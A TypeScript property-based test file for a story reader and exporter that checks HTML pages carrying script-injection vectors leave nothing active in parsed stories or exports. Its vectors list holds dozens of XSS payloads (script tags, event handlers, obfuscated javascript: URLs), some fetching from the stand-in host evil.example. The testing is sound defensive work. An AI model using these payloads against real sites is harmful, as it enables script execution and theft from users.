import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { formats } from '../../src/formats/formats.ts';
import { readStories } from '../../src/formats/read.ts';
import { htmlFromBlocks } from '../../src/formats/html/html-from-blocks.ts';
import { formatIds, type FormatId } from '../../src/story/story.ts';
import { actsInDocx, actsInHtml, actsInJson, actsInMarkdown } from './acts-in.ts';
import { aFile } from './a-file.ts';

// Ways to have a page run or fetch something, after the OWASP filter evasion cheat sheet's kinds; MARK must never come through.
const vectors = [
  '<script>MARK()</script>', '<SCRIPT SRC=https://evil.example/MARK.js></SCRIPT>', '<scr<script>ipt>MARK()</scr</script>ipt>', '<script/x src="//evil.example/MARK"></script>',
  '<img src=x onerror=MARK()>', '<img src="https://evil.example/MARK.png">', '<IMG """><SCRIPT>MARK()</SCRIPT>">', '<svg onload=MARK()><script>MARK()</script></svg>',
  '<svg><a xlink:href="javascript:MARK()"><text>t</text></a></svg>', '<math><mtext><style><img src=x onerror=MARK()></style></mtext></math>',
  '<iframe src="javascript:MARK()"></iframe>', '<iframe srcdoc="<script>MARK()</script>"></iframe>', '<object data="https://evil.example/MARK.swf"></object>', '<embed src="https://evil.example/MARK">',
  '<style>@import "https://evil.example/MARK.css";</style>', '<p style="background:url(https://evil.example/MARK)">styled</p>', '<link rel=stylesheet href="https://evil.example/MARK.css">',
  '<body onload=MARK()>', '<div onclick="MARK()">press</div>', '<a href="javascript:MARK()">a</a>', '<a href="JaVaScRiPt:MARK()">b</a>', '<a href=" &#14;  javascript:MARK()">c</a>',
  '<a href="java&#10;script:MARK()">d</a>', '<a href="java\tscript:MARK()">e</a>', '<a href="&#106;&#97;vascript:MARK()">f</a>', '<a href="data:text/html,<script>MARK()</script>">g</a>',
  '<a href="vbscript:MARK">h</a>', '<a href="file:///etc/MARK">i</a>', '<a href="blob:https://evil.example/MARK">j</a>', '<form action="https://evil.example/MARK"><input name=MARK value=MARK></form>',
  '<meta http-equiv=refresh content="0;url=javascript:MARK()">', '<base href="javascript:MARK()//">', '<video><source onerror=MARK()></video>', '<audio src="https://evil.example/MARK"></audio>',
  '<noscript><p title="</noscript><img src=x onerror=MARK()>"></noscript>', '<template><script>MARK()</script></template>', '<!--><script>MARK()</script>-->', '<xmp><script>MARK()</script></xmp>',
  '<textarea><script>MARK()</script></textarea>', '<select><option>MARK</option></select>', '<table background="https://evil.example/MARK"><tr><td>cell</table>', '<input type=image src=x onfocus=MARK() autofocus>',
  '<details open ontoggle=MARK()>more</details>', '<button onclick=MARK()>MARK</button>', '<p hidden>MARK</p>', '<![CDATA[<script>MARK()</script>]]>', '<link rel="canonical" href="javascript:MARK()">',
  '<img srcset="https://evil.example/MARK.png 2x, data:image/svg+xml,MARK 1x">', '<picture><source srcset="//evil.example/MARK"><img src=data:image/gif;base64,MARK></picture>', '<a ping="https://evil.example/MARK" href="https://ok.example/">k</a>',
  '<link rel=preload as=image href="//evil.example/MARK">', '<link rel=stylesheet href="data:text/css,MARK">', '<frameset><frame src="javascript:MARK()"></frameset>', '<applet code=MARK></applet>', '<marquee onstart=MARK()>m</marquee>',
  '<svg><image href="https://evil.example/MARK"/><use href="data:image/svg+xml,MARK#x"/><animate attributeName=href values="javascript:MARK()"/></svg>', '<p style="color:red;background:url(&quot;//evil.example/MARK&quot;)">s</p>',
  '<p>&lt;script&gt;MARK()&lt;/script&gt; &lt;img src=x onerror=MARK()&gt;</p>', '<p>![MARK](https://evil.example/MARK.png) [l](javascript:MARK()) &lt;javascript:MARK()&gt;</p>', '<p>[MARK]: javascript:MARK()</p><p>[MARK]</p>', '<pre>```\n&lt;script&gt;MARK()&lt;/script&gt;</pre>',
  '<a href="https://ok.example/&quot;&gt;&lt;script&gt;MARK()&lt;/script&gt;">n</a>', '<h2 onclick=MARK()>&lt;svg/onload=MARK()&gt;</h2>', '<title>&lt;/title&gt;&lt;script&gt;MARK()&lt;/script&gt;</title>', '<meta name="author" content="&lt;script&gt;MARK()&lt;/script&gt;">',
  '<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=MARK()>","author":"<script>MARK()","image":"javascript:MARK()","articleBody":"<script>MARK()"}</script>',
  '<figure><figcaption><a href="https://ok.example/MARK.png">c</a></figcaption></figure>', '<a href="ms-word:ofe|u|https://evil.example/MARK">w</a>', '<a href="view-source:javascript:MARK()">v</a>',
  '<meta property="og:image" content="javascript:MARK()">', '<meta property="og:url" content="javascript:MARK()">',
];

const filler = fc.constantFrom('<p>', '</p>', '<div>', '</div>', '<b>', '<table><tr><td>', '</table>', '<li>', '<svg>', '</svg>', '<!--', '-->', '"', '>', '<', '&lt;', 'words of a story ', '<title>', '</title>', '<style>', '</style>');
const page = fc
  .array(fc.oneof(fc.constantFrom(...vectors), filler), { minLength: 1, maxLength: 12 })
  .map((pieces) => `<!doctype html><html><body><p>The bridge shuts on Monday, the council says.</p>${pieces.join('')}<p>It opens again on Friday.</p></body></html>`);

const acts: Readonly<Record<FormatId, (bytes: Uint8Array) => string[]>> = {
  // Plain text has nothing that could act.
  text: () => [],
  html: (bytes) => actsInHtml(new TextDecoder().decode(bytes)),
  markdown: (bytes) => actsInMarkdown(new TextDecoder().decode(bytes)),
  docx: actsInDocx,
  json: (bytes) => actsInJson(new TextDecoder().decode(bytes)),
  ninjs: (bytes) => actsInJson(new TextDecoder().decode(bytes)),
};

const read = async (html: string) => (await readStories(aFile('page.html', html)))[0];

describe('a page that would run or fetch something', () => {
  test.each(vectors)('leaves nothing of it in the story: %s', async (vector) => {
    const story = await read(`<html><body><p>The bridge shuts on Monday.</p>${vector}<p>It opens again on Friday.</p></body></html>`);
    const links = story?.blocks.flatMap((block) => block.children.map((run) => run.link ?? '')) ?? [];
    expect(links.filter((link) => /MARK|script:/i.test(link) && !link.startsWith('https://ok.example/'))).toEqual([]);
    expect(story?.meta.url ?? '').not.toMatch(/script/i);
    expect(story?.meta.leadImage?.url ?? '').not.toMatch(/script/i);
  });

  test.each(formatIds)('leaves nothing of it in an export as %s, however its pieces are put together', async (id) => {
    await fc.assert(
      fc.asyncProperty(page, async (html) => {
        const story = await read(html);
        if (!story) return;
        // Parts that the reader left out may be taken in.
        const parts = story.meta.page?.leftOut.flatMap(({ blocks }) => blocks) ?? [];
        const copy = { ...story, blocks: [...story.blocks, ...parts] };
        expect(acts[id](await formats[id].writer.write(copy))).toEqual([]);
      }),
      { numRuns: id === 'docx' ? 60 : 200, seed: 4 },
    );
  });

  test('leaves nothing of it on the clipboard', async () => {
    await fc.assert(
      fc.asyncProperty(page, async (html) => {
        const story = await read(html);
        if (story) expect(actsInHtml(htmlFromBlocks(story.blocks, { direction: 'ltr', ...(story.meta.url === undefined ? {} : { url: story.meta.url }) }))).toEqual([]);
      }),
      { numRuns: 100, seed: 6 },
    );
  });
});

describe('the look for what acts', () => {
  test.each([
    ['html', '<p onclick="x()">a</p>'],
    ['html', '<p>a <img src="x"></p>'],
    ['html', '<a href="javascript:x()">a</a>'],
    ['html', '<meta http-equiv="refresh" content="0">'],
    ['html', '<link rel="stylesheet" href="https://x.example/a.css">'],
    ['markdown', 'a <img src=x>'],
    ['markdown', '![a](https://x.example/a.png)'],
    ['markdown', '[a](javascript:x())'],
    ['json', '{"blocks":[{"link":"data:text/html,x"}]}'],
    ['ninjs', '{"bodies":[{"value":"<p><script>x()</script></p>"}]}'],
  ] as const)('finds it in %s: %s', (id, content) => {
    expect(acts[id](new TextEncoder().encode(content))).not.toEqual([]);
  });
});
